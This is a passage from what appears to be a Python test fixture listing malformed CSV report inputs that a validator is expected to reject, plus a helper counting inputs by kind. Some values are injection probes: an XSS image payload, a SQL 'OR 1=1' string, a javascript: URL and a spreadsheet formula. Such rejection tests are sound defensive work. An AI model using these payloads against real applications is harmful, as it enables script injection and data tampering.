    "day before all days": _with(said_on="0000-00-00"),
    "day of a formula in a table": _with(said_on="=TODAY()"),
    "day of a serial number": _with(said_on="46037"),
    "day of spaces": _with(said_on=" " * 30_000 + "x"),
    "visibility of nobody": _with(visibility="secret"),
    "visibility of markup": _with(visibility="<b>public</b>"),
    "language of elves": _with(language="qya"),
    "meeting of markup": _with(meeting="<img src=x onerror=alert(1)>"),
    "meeting of 30 KB": _with(meeting="m" * 30_000),
    "report of another": _with(report="CHL-R4-aaaaaa"),
    "report of a query": _with(report="' OR 1=1 --"),
    "report of 30 KB": _with(report="r" * 30_000),
    "text of 1 MB": _with(text="a" * LONG),
    "text of one more than a cell": _with(text="a" * 32_768),
    "evidence of scripts": _with(evidence="javascript://x.example/%0aalert(1)"),
    "evidence of 30 KB": _with(evidence="https://x.example/" + "a" * 30_000),
    "evidence of many links": _with(evidence="https://x.example/ " * 100),
    "evidence of slashes": _with(evidence="A/" * 15_000),
}
"""CSV files with reports that cannot be taken."""


def inputs() -> dict[str, int]:
    """How many inputs there are of each kind."""
    kinds = (
        *(
            ("texts", TEXTS),
            ("addresses", ADDRESSES),
            ("links", LINKS),
            ("symbols", SYMBOLS),
            ("codes", CODES),
        ),
        *(("names of files", FILE_NAMES), ("files", FILES), ("workbooks", BOOKS), ("tables", TABLES)),
    )
    return {kind: len(held) for kind, held in kinds}
